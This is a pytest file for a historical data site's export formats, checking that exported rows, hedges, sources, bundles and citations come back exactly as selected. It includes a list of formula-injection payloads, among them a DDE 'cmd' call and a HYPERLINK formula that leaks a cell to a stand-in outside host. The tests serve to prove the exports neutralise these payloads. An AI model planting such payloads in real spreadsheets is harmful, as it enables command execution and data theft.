"""Every file holds exactly the rows on the screen, with hedges and sources, and nothing in it runs."""

import csv
import io
import json
import random
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from hashlib import sha256
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import bibtexparser
import duckdb
import frictionless
import openpyxl
import pandas as pd
import pyogrio
import pytest
import rispy
import shapely
from lxml import etree
from openpyxl.utils.escape import unescape
from streamlit.testing.v1 import AppTest

from components.exports import one_page
from data.files.export import BUNDLE, FORMATS, file_name, to_csv
from data.files.extract import Extract
from data.files.formula_guard import guarded, unguarded
from data.files.reader_sheet import columns_on_screen, reader_columns
from data.query.address import read_address, read_page
from data.query.as_of import as_published
from data.query.readable import frame_in_words
from data.query.select import Selection
from data.query.views import LIST, VIEWS, View, view_of_table
from data.record.dates import span_of
from data.record.load import Library
from data.record.wording import name_of_series
from tests.choices import choices_of_each_view

# What the page of whole tables offers to choose by.
OF_TABLES = ("table", "asof", "source", "q", "country")
BASE = "http://localhost:8501"
SPACE = {"k": "http://www.opengis.net/kml/2.2"}


def extract_of(view: View, selection: Selection) -> Extract:
    day = selection.values.get("asof")
    tables = as_published(span_of(day).last if day else None, selection.values.get("source") == "brief only")[0]
    return Extract(view, tables, selection, BASE, one_page.files_beside_data)


def texts_of(frame: pd.DataFrame) -> list[list[str]]:
    """Rows as text, value for value: a missing cell is empty, a whole number has no point."""
    return [[_text(cell) for cell in row] for row in frame.itertuples(index=False)]


def _text(cell: Any) -> str:
    if cell is None or (not isinstance(cell, str) and pd.isna(cell)):
        return ""
    if isinstance(cell, str):
        return cell
    return str(int(cell)) if float(cell) == int(cell) else repr(float(cell))


def back_from_csv(made: bytes, extract: Extract) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(extract.frame.columns)
    numbers = {column for column, entry in enumerate(extract.fields) if entry["type"] != "string"}
    return [
        [_text(float(cell)) if place in numbers and cell else unguarded(cell) for place, cell in enumerate(row)]
        for row in rows[1:]
    ]


def back_from_xlsx(made: bytes, extract: Extract) -> list[list[str]]:
    sheet = openpyxl.load_workbook(io.BytesIO(made))["data"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == list(extract.frame.columns)
    return [[unescape(_text(cell)) for cell in row] for row in rows[1:]]


def back_from_json(made: bytes, extract: Extract) -> list[list[str]]:
    whole = json.loads(made)
    assert [entry["name"] for entry in whole["fields"]] == list(extract.frame.columns)
    return [[_text(cell) for cell in row.values()] for row in whole["data"]]


def back_from_parquet(made: bytes, extract: Extract) -> list[list[str]]:
    return texts_of(pd.read_parquet(io.BytesIO(made))[list(extract.frame.columns)])


def back_from_geojson(made: bytes, extract: Extract) -> list[list[str]]:
    return [[_text(cell) for cell in one["properties"].values()] for one in json.loads(made)["features"]]


def back_from_kml(made: bytes, extract: Extract) -> list[list[str]]:
    marks = etree.fromstring(made).iterfind(".//k:Placemark", SPACE)
    return [[value.text or "" for value in mark.iterfind(".//k:value", SPACE)] for mark in marks]


READERS: dict[str, Callable[[bytes, Extract], list[list[str]]]] = {
    "CSV": back_from_csv,
    "CSV for Excel": back_from_csv,
    "Excel": back_from_xlsx,
    "JSON": back_from_json,
    "Parquet": back_from_parquet,
    "GeoJSON": back_from_geojson,
    "KML": back_from_kml,
}


def test_every_format_but_the_bundle_is_read_back_here() -> None:
    assert set(READERS) == set(FORMATS) - {"Evidence bundle"}


@pytest.mark.slow
def test_the_rows_behind_an_address_and_in_every_format_are_those_selected(library: Library) -> None:
    read = dict.fromkeys(READERS, 0)
    for view, selection in choices_of_each_view(library, 2):
        extract = extract_of(view, selection)
        expected = texts_of(extract.frame)
        parts = urlsplit(extract.address("csv"))
        asked = read_address(view.table, parse_qsl(parts.query, keep_blank_values=True))
        assert texts_of(Extract(asked.view, asked.library, asked.selection).frame) == expected, parts.query
        for name, back in READERS.items():
            if FORMATS[name].holds(view.table):
                assert back(FORMATS[name].to_bytes(extract), extract) == expected, (name, parts.query)
                read[name] += 1
    assert read["CSV"] > 80 and min(read.values()) >= 20


def address_of(selection: Selection) -> dict[str, Any]:
    """A selection as the parameters of a page's address."""
    return {
        name: [str(item) for item in value] if isinstance(value, tuple) else str(value)
        for name, value in selection.values.items()
        if value not in ("", ())
    }


def page_shows(app: AppTest, title: str) -> list[list[str]]:
    """The grid of a panel, cell by cell; no row where a sentence stands in its place."""
    grids = [frame.value for frame in app.dataframe if frame.proto.alt.endswith(f"shown in “{title}”")]
    return texts_of(grids[0]) if grids else []


def on_its_page(view: View, selection: Selection) -> tuple[Selection, Extract]:
    """Those of the choices that the page of a view offers, and what the page has to show by them."""
    offered = selection.values if view.key in VIEWS else {**selection.values, "table": view.table}
    offered = {name: value for name, value in offered.items() if view.key in VIEWS or name in OF_TABLES}
    shown = dict(offered)
    if view.key == "unaccounted-for" and not shown.get("mark"):
        shown["mark"] = ("counts", "before 2001")
    return Selection(view.page, offered), extract_of(view, Selection(view.page, shown))


@pytest.mark.slow
def test_the_rows_that_the_address_of_a_page_names_are_those_of_its_files(library: Library) -> None:
    for view, selection in choices_of_each_view(library, 4):
        on_page, extract = on_its_page(view, selection)
        if "disagreement" in view.subject and extract.rows.empty:  # not there on that day: the page is about the first
            continue
        pairs = [(name, item) for name, text in address_of(on_page).items() for item in _listed(text)]
        rows = Extract(view, *read_page(view.page, pairs)).rows
        assert texts_of(rows) == texts_of(extract.rows), (view.key, selection.values)


def as_read(extract: Extract) -> pd.DataFrame:
    """The rows of a file as a page has them: statements in the columns that a person reads after their ids, others in words."""
    columns = columns_on_screen(extract.library, extract.view.table, extract.rows)
    if not columns or extract.rows.empty:
        return frame_in_words(extract.library, extract.fields, extract.rows)
    ids = extract.rows.iloc[:, 0]
    return pd.DataFrame({str(ids.name): ids.to_list(), **columns})


@pytest.mark.slow
def test_the_rows_on_a_page_are_those_of_its_files(open_page: Callable[..., AppTest], library: Library) -> None:
    looked_at = 0
    for view, selection in choices_of_each_view(library, 1):
        if view.key == "headlines":  # tiles, without a grid
            continue
        on_page, extract = on_its_page(view, selection)
        app = open_page(view.page, **address_of(on_page))
        assert not app.exception
        assert page_shows(app, extract.title) == texts_of(as_read(extract)), (view.key, selection.values)
        looked_at += 1
    assert looked_at > 35


def _listed(text: str | list[str]) -> list[str]:
    return text if isinstance(text, list) else [text]


def default_extract(library: Library, key: str, **values: Any) -> Extract:
    return Extract(VIEWS[key], library, Selection(VIEWS[key].page, values), BASE, one_page.files_beside_data)


@pytest.mark.slow
def test_the_same_choice_twice_gives_the_same_bytes(library: Library) -> None:
    for key in ("map", "believed-to-lie", "timeline-panel"):
        for chosen in FORMATS.values():
            if chosen.holds(VIEWS[key].table):
                first, second = (chosen.to_bytes(default_extract(library, key)) for _ in range(2))
                assert first == second, (key, chosen.extension)


def test_a_name_says_table_panel_filters_version_and_day(library: Library) -> None:
    extract = default_extract(
        library, "timeline-panel", lane=("law and organizations",), years=(1990, 2012), asof="2012-07-03"
    )
    day = library.dictionary["created"][:10]
    expected = f"events-timeline-panel_asof-2012-07-03_lane-law-and-organizations_years-1990-2012_v{library.version}_{day}.xlsx"
    assert file_name(extract, "xlsx") == expected


def test_a_name_stays_short_and_keeps_version_and_ending(library: Library) -> None:
    name = file_name(default_extract(library, "timeline-panel", q="word " * 90), "excel.csv")
    assert len(name) <= 180 and name.endswith(f"_v{library.version}_{library.dictionary['created'][:10]}.excel.csv")


def test_hedges_ranges_and_sources_travel_in_every_format(library: Library) -> None:
    extract = default_extract(library, "by-origin", origin="208 boxes")
    row = extract.frame[extract.frame["qualifier"] == "range"].iloc[0]
    for name, back in READERS.items():
        if not FORMATS[name].holds("figures"):
            continue
        rows = [
            dict(zip(extract.frame.columns, cells, strict=True))
            for cells in back(FORMATS[name].to_bytes(extract), extract)
        ]
        found = next(one for one in rows if one["figure_id"] == row["figure_id"])
        assert (found["qualifier"], found["low"], found["high"]) == ("range", str(row["low"]), str(row["high"]))
        assert found["as_printed"] == row["as_printed"] and found["source_title"] and found["value"] == ""


def test_every_column_of_every_view_is_described(library: Library) -> None:
    for view in [*LIST, *(view_of_table(library, table) for table in library.tables)]:
        fields = Extract(view, library, Selection(view.page, {"disagreement": "DIS-01"})).fields
        assert all(len(entry["description"]) > 8 and entry["title"] for entry in fields), view.key


def test_the_workbook_says_what_it_is_and_prints_with_its_head_on_each_page(library: Library) -> None:
    extract = default_extract(library, "timeline-panel", lane=("talks",), asof="2012-07-03")
    extract = extract_of(extract.view, extract.selection)
    book = openpyxl.load_workbook(io.BytesIO(FORMATS["Excel"].to_bytes(extract)))
    assert book.sheetnames == ["rows", "read me", "data", "dictionary", "sources"]
    for sheet in book:
        assert sheet.page_setup.orientation == "landscape" and sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert sheet.page_setup.fitToWidth in (None, 1) and sheet.page_setup.fitToHeight == 0, sheet.title
        assert sheet.title == "read me" or (sheet.print_title_rows == "$1:$1" and sheet.freeze_panes == "B2")
    told = {row[0]: str(row[1]) for row in book["read me"].iter_rows(values_only=True)}
    assert told["filters"] == "as published by 3 July 2012; talks" and told["rows"] == str(len(extract.rows))
    assert told["as of"] == "as published by 3 July 2012" and library.version in told["citation"]
    assert "CC" in told["licence"] or "Creative Commons" in told["licence"]
    assert book["sources"].max_row == len(extract.sources) + 1


def opened(extract: Extract) -> list[dict[str, Any]]:
    """The rows of the sheet with which the workbook of an extract opens, by the titles of its columns."""
    book = openpyxl.load_workbook(io.BytesIO(FORMATS["Excel"].to_bytes(extract)), read_only=True)
    head, *rows = book.worksheets[0].iter_rows()
    for column, title in enumerate(cell.value for cell in head):
        shape = {"Number": "#,##0", "Lower end": "#,##0", "Upper end": "#,##0", "Day": "d mmmm yyyy"}.get(
            title, "General"
        )
        assert {row[column].number_format for row in rows if row[column].value is not None} == {shape}, title
    return [dict(zip((cell.value for cell in head), (cell.value for cell in row), strict=True)) for row in rows]


@pytest.mark.parametrize("table", ["figures", "operations", "burial_estimates", "events"])
def test_a_workbook_opens_with_each_row_shown_its_number_hedge_day_and_year(library: Library, table: str) -> None:
    extract = Extract(view_of_table(library, table), library, Selection("sources-and-data", {}), BASE)
    shown = extract.rows.rename(columns={"number": "value", "number_qualifier": "qualifier"}).to_dict("records")
    for row, read in zip(shown, opened(extract), strict=True):
        day = row["date"] if "date" in row else row["start"] or row["end"]
        assert read["Address of the record"] == f"{BASE}/sources-and-data?figure={next(iter(row.values()))}"
        assert read["Number"] == (None if pd.isna(row["value"]) else row["value"])
        assert [read.get("Lower end"), read.get("Upper end")] == [
            None if pd.isna(row.get(end, pd.NA)) else row[end] for end in ("low", "high")
        ]
        assert (
            not row["qualifier"]
            or row["qualifier"] in ("exact", "range")
            or row["qualifier"] in read["Number as printed"]
        )
        assert (read["Day"].date().isoformat() if read["Day"] else "") == (day if len(day) == 10 else "")
        assert read["Year"] == (int(day[:4]) if day else None) and (
            str(read["Year"]) in read["Date in words"] if day else True
        )
        assert read["Attributed to"] == row["attributed_to"] and row["source_id"] in set(extract.sources["source_id"])
        assert read.get("Country", "") == (row["country"].replace(";", "; ") or None if "country" in row else "")


def test_the_sheet_that_opens_has_at_most_twelve_columns_and_none_that_is_empty(library: Library) -> None:
    views = [*LIST, *(view_of_table(library, table) for table in library.tables)]
    for view in views:
        extract = Extract(view, library, Selection(view.page, {"disagreement": "DIS-01"}), BASE)
        columns = reader_columns(extract)
        assert 2 <= len(columns) <= 12 and len({column.title for column in columns}) == len(columns), view.key
        for column in columns:
            cells = column.cells(extract.frame)
            assert len(cells) == len(extract.rows) and set(cells) != {None}, (view.key, column.title)


PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://outside.example/?x="&A1;"click")',
    '=WEBSERVICE("http://outside.example")',
    '=IMPORTXML("http://outside.example";"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "x;=1+1;y",
    "x\t=1+1\ty",
    "x\n=1+1",
    "x\r\n=1+1\r\ny",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "-5",
    "+7,000 still missing",
    'a,"b",c',
    'a""b',
    '"quoted"',
    '=""',
    "{=1+1}",
    "%0A=1+1",
    "</value><Placemark/>",
    "]]>=1+1",
    "<script>alert(1)</script>",
    "&lt;=1+1",
    '=1+1","=2+2',
]
LIVE = ("=", "+", "-", "@", "\uff0b", "\uff1d", "\uff0d", "\uff20")


def hostile(library: Library) -> Extract:
    """The places, with a payload in three columns of each row, in the name of a column, and in a filter's text."""
    places = library["places"]
    rows = (places.to_dict("records") * 2)[: len(PAYLOADS)]
    frame = pd.DataFrame(rows, columns=places.columns).astype(places.dtypes.to_dict())
    frame = frame.assign(
        place_id=[f"P{n}" for n in range(len(rows))], name=PAYLOADS, note=PAYLOADS, local_name=PAYLOADS
    )
    view = replace(VIEWS["map"], rows=lambda library, selection: frame)
    return Extract(view, library, Selection("recovery-map", {"q": PAYLOADS[4], "country": ("China",)}), BASE)


def test_there_are_thirty_payloads_and_more() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 30


@pytest.mark.parametrize("name", list(READERS))
def test_no_payload_is_live_and_each_is_read_back_as_it_was(library: Library, name: str) -> None:
    extract = hostile(library)
    made = FORMATS[name].to_bytes(extract)
    expected = texts_of(extract.frame)
    if name == "KML":  # XML reads every end of a line as LF
        expected = [[cell.replace("\r\n", "\n").replace("\r", "\n") for cell in row] for row in expected]
    assert READERS[name](made, extract) == expected
    if name.startswith("CSV"):
        for separator in ",;\t":
            for row in csv.reader(io.StringIO(made.decode("utf-8-sig"), newline=""), delimiter=separator):
                for cell in row:
                    begins = cell.lstrip(" \t\r\n\"'\ufeff\u200b")
                    number = begins.replace(".", "").removeprefix("-").isdigit()
                    guard = cell.lstrip(" \t\r\n\ufeff\u200b").startswith("'")
                    assert not begins.startswith(LIVE) or guard or number, (separator, cell)


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(library: Library) -> None:
    made = FORMATS["Excel"].to_bytes(hostile(library))
    book = openpyxl.load_workbook(io.BytesIO(made))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n", "d"}
    assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.hyperlink]
    parts = zipfile.ZipFile(io.BytesIO(made))
    assert not [name for name in parts.namelist() if b"<f>" in parts.read(name)]


def test_negative_numbers_stay_numbers(library: Library) -> None:
    extract = default_extract(library, "map", country=("United States",))
    back = pd.read_csv(io.BytesIO(to_csv(extract)))
    assert back["longitude"].dropna().lt(0).all() and pd.api.types.is_float_dtype(back["longitude"])


def test_what_is_guarded_comes_back_as_it_was() -> None:
    dice = random.Random(11)
    signs = "=+-@'\" ;\t\r\nab\ufeff\u200b1"
    for _ in range(20_000):
        text = "".join(dice.choice(signs) for _ in range(dice.randint(0, 9)))
        assert unguarded(guarded(text)) == text, repr(text)


def unpacked(made: bytes, folder: Path) -> Path:
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        archive.extractall(folder)
    return folder


@pytest.mark.slow
@pytest.mark.parametrize(
    ("key", "values"),
    [
        ("map", {}),
        ("believed-to-lie", {}),
        ("timeline-panel", {"lane": ("talks",), "q": "Korea"}),
        ("disagreement-panel", {"disagreement": "DIS-03"}),
        ("all-operations", {"years": (1990, 2005)}),
        ("look-ahead", {"pace": 50}),
        ("all-disagreements", {}),
        ("burial-estimates", {}),
        ("by-origin", {"origin": "joint operations"}),
    ],
)
def test_the_bundle_is_whole_and_without_fault(
    library: Library, tmp_path: Path, key: str, values: dict[str, Any]
) -> None:
    extract = default_extract(library, key, **values)
    folder = unpacked(BUNDLE.to_bytes(extract), tmp_path)
    report = frictionless.Package(folder / "datapackage.json").validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    package = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    assert package["version"] == library.version and package["$schema"].endswith("2.0/datapackage.json")
    table = VIEWS[key].table
    for chosen in FORMATS.values():
        if chosen is not BUNDLE and chosen.holds(table):
            assert (folder / "data" / f"{table}.{chosen.extension}").read_bytes() == chosen.to_bytes(extract)
    read_me = (folder / "README.md").read_text(encoding="utf-8")
    assert f"Filters: {extract.filters}" in read_me and extract.about["citation"] in read_me
    sums = dict(line.split("  ")[::-1] for line in (folder / "SHA256SUMS").read_text().splitlines())
    files = {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()}
    assert set(sums) == files - {"SHA256SUMS"}
    assert all(sha256((folder / name).read_bytes()).hexdigest() == digest for name, digest in sums.items())


def test_the_citations_of_the_bundle_parse_and_name_every_source(library: Library, tmp_path: Path) -> None:
    extract = default_extract(library, "timeline-panel")
    folder = unpacked(BUNDLE.to_bytes(extract), tmp_path)
    expected = {extract.reference["id"], *extract.sources["source_id"]}
    bib = bibtexparser.parse_file(str(folder / "sources.bib"))
    assert not bib.failed_blocks and {entry.key for entry in bib.entries} == expected
    with (folder / "sources.ris").open(encoding="utf-8") as file:
        assert {entry["id"] for entry in rispy.load(file)} == expected
    listed = [path for path in folder.glob("sources.*") if path.suffix == ".json"]
    assert {entry["id"] for entry in json.loads(listed[0].read_text(encoding="utf-8"))} == expected


def test_duckdb_reads_the_parquet_with_its_numbers(library: Library, tmp_path: Path) -> None:
    extract = default_extract(library, "unaccounted-for")
    path = tmp_path / "figures.parquet"
    path.write_bytes(FORMATS["Parquet"].to_bytes(extract))
    found = duckdb.sql(f"select count(*), sum(value), count(low) from '{path}' where qualifier <> ''").fetchall()[0]
    assert found == (len(extract.rows), int(extract.rows["value"].sum()), int(extract.rows["low"].notna().sum()))
    told = duckdb.sql(
        f"select decode(value) from parquet_kv_metadata('{path}') where decode(key) = 'about'"
    ).fetchall()[0]
    assert told and json.loads(told[0])["version"] == library.version


def test_gdal_finds_every_point_where_the_table_has_it(library: Library) -> None:
    extract = default_extract(library, "map")
    for name in ("GeoJSON", "KML"):
        _, _, shapes, _ = pyogrio.raw.read(io.BytesIO(FORMATS[name].to_bytes(extract)))
        assert len(shapes) == len(extract.rows)
        points = [None if shape is None else pd.Series(bytes_to_point(shape)).round(5).tolist() for shape in shapes]
        for row, point in zip(extract.rows.to_dict("records"), points, strict=True):
            known = (
                None
                if pd.isna(row["latitude"])
                else [round(float(row["longitude"]), 5), round(float(row["latitude"]), 5)]
            )
            assert point == known, (name, row["place_id"])


def bytes_to_point(shape: bytes) -> tuple[float, float]:
    point = shapely.from_wkb(shape)
    return point.x, point.y


def test_a_row_without_a_point_keeps_its_row_on_the_map(library: Library) -> None:
    extract = default_extract(library, "all-operations")
    features = json.loads(FORMATS["GeoJSON"].to_bytes(extract))["features"]
    assert len(features) == len(extract.rows)
    assert any(one["geometry"] is None for one in features)


@pytest.mark.slow
def test_a_one_file_copy_is_small_asks_for_nothing_outside_and_leads_from_each_mark_to_its_row(
    library: Library,
) -> None:
    for view in LIST:
        extract = default_extract(library, view.key, disagreement="DIS-01")
        panel = one_page.panel_of_extract(extract)
        page = one_page.one_file(extract).decode("utf-8")
        for asking in (" src=", "<link", "@import", "url("):
            assert asking not in page.split("<script>")[0], view.key
        assert len(page.encode("utf-8")) < 500_000 and page.count("<script>") <= 1, view.key
        assert view.key != "map" or "Natural Earth" in page
        anchors = re.findall('<tr id="([^"]+)">', page)
        assert anchors == [str(row_id) for row_id in panel.frame.iloc[:, 0]]
        linked = re.findall('<a href="(#|[^"#]+figure=)([^"]+)"(?: data-rows="([^"]+)")?><title>([^<]+)</title>', page)
        for where, row_id, _, words in linked:
            assert (row_id in anchors) == (where == "#") and len(words) > 10 and "%{" not in words, (view.key, row_id)
        ids = {one for _, row_id, rows, _ in linked for one in (rows or row_id).split(";")}
        figure = panel.picture()
        drawn = [row_id for trace in figure.data for row_id in trace.customdata or ()] if figure is not None else []
        named = {part for row_id in drawn if row_id for part in row_id.split(";")}
        assert ids == named or (view.key == "map" and len(ids) > 10 and ids < named), view.key


def test_a_number_of_an_event_keeps_its_hedge_among_the_statements_of_a_disagreement(library: Library) -> None:
    rows = default_extract(library, "disagreement-panel", disagreement="DIS-09").rows.set_index("figure_id")
    assert (rows.at["EV105", "qualifier"], rows.at["EV105", "value"]) == ("more than", 220)
    told = library["events"].set_index("event_id")["number_qualifier"]
    assert told[["EV066", "EV083", "EV155"]].tolist() == ["more than"] * 3 and told["EV112"] == "at least"


def test_a_disagreement_names_the_rows_that_each_statement_stands_for(library: Library) -> None:
    for row in library["disagreements"].to_dict("records"):
        rows = default_extract(library, "disagreement-panel", disagreement=row["disagreement_id"]).rows
        told = {part for cell in rows["same_statement"] for part in cell.split(";")}
        assert told == set(row["row_ids"].split(";")), row["disagreement_id"]


@pytest.mark.parametrize("key", ["believed-to-lie", "since-1982", "pace-month", "look-ahead", "prisoners"])
def test_a_computed_row_has_no_source_and_its_parts_leave_with_it(library: Library, tmp_path: Path, key: str) -> None:
    extract = default_extract(library, key, pace=50)
    computed = extract.frame[extract.frame["kind"] == "computed"]
    assert len(computed) and not computed[["source_id", "source_title", "source_url"]].any(axis=None)
    assert set(computed["flags"]) == {"computed"} and extract.about["computed_rows"].startswith(f"{len(computed)},")
    folder = unpacked(BUNDLE.to_bytes(extract), tmp_path)
    parts = pd.read_csv(folder / "data" / "figures_parts.csv")
    named = {part for note in computed["note"] for part in note.split("Computed from ")[1].rstrip(".").split(", ")}
    assert set(parts["figure_id"]) == named


def test_the_map_leaves_with_the_numbers_that_are_written_on_it(library: Library, tmp_path: Path) -> None:
    tables = {"Where recovered": "operations", "Where believed buried": "burial_estimates", "Routes": "routes"}
    for question, table in tables.items():
        beside = default_extract(library, "map", layer=question).beside
        assert table in beside and not set(tables.values()) & set(beside) - {table}, "one question at a time"
    extract = default_extract(library, "map")
    folder = unpacked(BUNDLE.to_bytes(extract), tmp_path)
    held = {path.stem: set(pd.read_csv(path).iloc[:, 0]) for path in (folder / "data").glob("*.csv")}
    assert {"FIG-109"} <= held["figures"] and len(held["operations"]) == 23
    sources = set(pd.read_csv(folder / "data" / "sources.csv")["source_id"])
    assert set(library["figures"].set_index("figure_id").loc[["FIG-109"], "source_id"]) <= sources


def test_a_point_of_an_operation_says_how_precise_it_is(library: Library) -> None:
    for key in ("all-operations", "burial-estimates", "timeline-panel"):
        extract = default_extract(library, key)
        for one in json.loads(FORMATS["GeoJSON"].to_bytes(extract))["features"]:
            assert one["geometry"] is None or one["properties"]["coordinate_precision"]


def test_names_of_files_tell_apart_what_differs(library: Library) -> None:
    lanes = ("war", "prisoners", "returns", "joint operations", "talks", "law and organizations", "archives")
    extracts = [
        default_extract(library, "map", view="East Asia"),
        default_extract(library, "map", layer="Routes"),
        default_extract(library, "map"),
        default_extract(library, "by-origin", origin="joint operations"),
        default_extract(library, "look-ahead", pace=28),
        *(default_extract(library, "timeline-panel", q=word) for word in ("高", "北", "=", "+")),
        *(
            default_extract(library, "timeline-panel", lane=lanes, q="a b" * 30, years=(1990, last))
            for last in (1995, 2010)
        ),
    ]
    names = [file_name(extract, "csv") for extract in extracts]
    assert len(set(names)) == len(names) and max(len(name) for name in names) <= 180
    assert "origin-joint-operations" in names[3] and "pace-28" in names[4] and "view-east-asia" in names[0]


def test_the_picture_of_the_headlines_says_what_each_counts(library: Library) -> None:
    figure = one_page.panel_of_extract(default_extract(library, "headlines")).picture()
    words = " ".join(str(one.text).replace("<br>", " ") for one in figure.layout.annotations)
    for row in default_extract(library, "headlines").rows.to_dict("records"):
        assert name_of_series(row) in words


def test_events_laid_over_a_chart_stay_out_of_its_legend_and_leave_with_it(library: Library) -> None:
    extract = default_extract(library, "unaccounted-for", mark=("counts",), overlay="talks")
    figure = one_page.panel_of_extract(extract).picture()
    events = set(extract.beside["events"]["event_id"])
    laid = [trace for trace in figure.data if trace.customdata and trace.customdata[0] in events]
    assert laid and not [trace for trace in laid if trace.showlegend is not False]


def test_what_leaves_the_page_speaks_of_no_control_of_it(library: Library) -> None:
    for view in LIST:
        panel = one_page.panel_of_extract(default_extract(library, view.key, disagreement="DIS-03"))
        said = f"{panel.drawn.note} {panel.source}"
        for word in ("above", "slider", "pointer", "Show.", "Press “", "the card"):
            assert word not in said, (view.key, word)
